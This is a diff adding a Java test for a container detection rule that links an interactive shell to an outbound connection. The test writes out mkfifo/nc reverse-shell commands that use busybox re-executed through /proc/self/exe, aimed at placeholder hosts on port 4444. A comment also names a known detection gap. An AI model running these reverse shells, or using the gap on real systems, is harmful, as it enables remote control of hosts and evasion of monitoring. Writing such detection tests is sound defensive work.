@@ -178,6 +178,22 @@ class PersistenceAndEscapeGapsLiveTest {
         assertThat(alerts(rule)).extracting(Alert::output).hasSize(1);
     }
 
+    /**
+     * The mkfifo reverse shell under a busybox sh re-executed through /proc/self/exe, as busybox runs
+     * its applets (argv[0] "sh", exe /bin/busybox): linked, since this busybox (Debian's 1.35) names
+     * itself after the applet and its children's pcomm is sh. A busybox find re-executed the same way
+     * is no shell parent. A busybox that kept the name "exe" would not be linked (the rule's known gap).
+     */
+    @Test
+    void aBusyboxShellReExecutedThroughProcSelfExeIsAShellParent() throws Exception {
+        String rule = "Shell in container then outbound connection";
+        exec("exec -a find /proc/self/exe / -maxdepth 0 -exec sh -i \\; -exec nc -w1 10.255.255.10 4444 \\; < /dev/null");
+        exec("rm -f /tmp/h; mkfifo /tmp/h; exec -a sh /proc/self/exe -c 'cat /tmp/h | sh -i 2>&1 | nc -w1 10.255.255.9 4444 > /tmp/h; true'");
+        Alert a = await(rule, inCtr("10.255.255.9"));
+        assertThat(a.output()).contains("process=nc");
+        assertThat(alerts(rule)).extracting(Alert::output).hasSize(1);
+    }
+
     @Test
     void coreDumpHelperWrittenFromAContainer() throws Exception {
         // Negatives: reading core_pattern; writing another sysctl. The container's /proc/sys is read-only
